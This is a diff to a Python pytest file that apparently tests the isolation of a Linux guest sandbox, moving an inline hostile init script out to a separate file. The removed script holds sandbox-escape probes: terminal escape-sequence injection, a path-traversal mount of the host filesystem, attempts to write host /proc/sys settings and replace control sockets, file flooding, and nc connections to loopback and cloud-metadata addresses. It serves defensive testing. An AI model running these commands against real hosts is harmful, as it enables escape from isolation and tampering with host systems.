@@ -32,60 +32,7 @@ PORT = 7777
 OWN = ("192.0.2.1", "198.51.100.7", "169.254.169.254")
 """Addresses of the namespace that the guest runs in; each has a listener on PORT."""
 
-INIT = r"""#!/bin/sh
-export PATH=/bin:/sbin
-[ -e /proc/mounts ] || mount -t proc proc /proc
-say() { echo "ATTACK $*"; }
-
-# What the terminal would obey: title, clipboard, its answers, the printer, another character set.
-printf '\033]0;owned\007\033]52;c;b3duZWQ=\007\033[21t\033P$qm\033\\\033[5i\033%%@\302\2356n\005\n'
-
-mount -t hostfs none /mnt -o /../../../../../../../.. && say escaped
-for name in /mnt/*; do say root ${name#/mnt/}; done
-for name in $secret $daemon /etc/passwd /root /home /sys/kernel; do
-    [ ! -e /mnt$name ] || say sees $name
-done
-find /mnt/proc/sys /mnt/proc/sysrq-trigger /mnt/proc/irq -type f > /tmp/settings 2> /dev/null
-say settings $(wc -l < /tmp/settings)
-while read -r name; do
-    { true >> $name; } 2> /dev/null && say opened $name
-done < /tmp/settings
-for process in /mnt/proc/[0-9]*; do
-    say process $(readlink $process/exe)
-done
-for folder in / /dev /proc /usr /tmp /tmp/p2pcloop-*/guest; do
-    { true > /mnt$folder/new; } 2> /dev/null && say wrote $folder
-done
-
-made=0
-while [ $made -lt 200 ] && { true > /mnt/run/flood$made; } 2> /dev/null; do made=$((made + 1)); done
-say files $made
-rm /mnt/run/flood*
-dd if=/dev/zero of=/mnt/run/flood bs=1M count=8 2> /dev/null
-say bytes $(wc -c < /mnt/run/flood)
-rm /mnt/run/flood
-
-for folder in /mnt/tmp/p2pcloop-*/guest; do
-    ln -s $target $folder/reply 2> /dev/null && say replaced the answer
-done
-rm /mnt/run/uml/guest/mconsole && ln -s $target /mnt/run/uml/guest/mconsole && say replaced
-
-ip address flush dev lo
-ip link set lo up
-ip route del local 127.0.0.0/8 table local
-echo 1 > /proc/sys/net/ipv4/conf/all/route_localnet
-for address in 127.0.0.1 127.1.2.3 10.0.2.2 10.0.2.3 10.0.2.255 192.0.2.255 224.0.0.1 @OWN@; do
-    ip route add $address via 10.0.2.2 2> /dev/null
-    # Whoever is connected waits to be told something, for ever.
-    {
-        timeout 20 nc -w 2 $address $port < /dev/null 2> /dev/null
-        [ $? = 1 ] || say reached $address
-    } &
-done
-wait
-say done
-sleep 600
-"""
+INIT = Path(__file__).with_name("hostile-init.sh")
 
 IN_NAMESPACE = """
 import os, socket, subprocess, sys
@@ -107,10 +54,9 @@ os.execvp(sys.argv[3], sys.argv[3:])
 @pytest.fixture(scope="module")
 def hostile_image(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("hostile")
-    image, init = folder / "hostile.img", folder / "init"
+    image = folder / "hostile.img"
     build_tiny_image(image)
-    init.write_text(INIT.replace("@OWN@", " ".join(OWN)))
-    for command in ("rm /sbin/init", f"write {init} /sbin/init", "sif /sbin/init mode 0100755"):
+    for command in ("rm /sbin/init", f"write {INIT} /sbin/init", "sif /sbin/init mode 0100755"):
         tool("debugfs", "-w", "-R", command, image)
     return image
 
@@ -174,10 +120,11 @@ def test_nothing_gets_out(
     for path in (image, secret):
         path.chmod(0o644)
     words = {
-        "secret": secret,
-        "daemon": node.home.control_socket,
-        "target": target.getsockname(),
-        "port": PORT,
+        "SECRET": secret,
+        "DAEMON": node.home.control_socket,
+        "TARGET": target.getsockname(),
+        "PORT": PORT,
+        "OWN": ",".join(OWN),
     }
     append = " ".join(["quiet", *(f"{name}={value}" for name, value in words.items())])
     options = ("--append", append, "--net", "user", "--kernel", kernel)
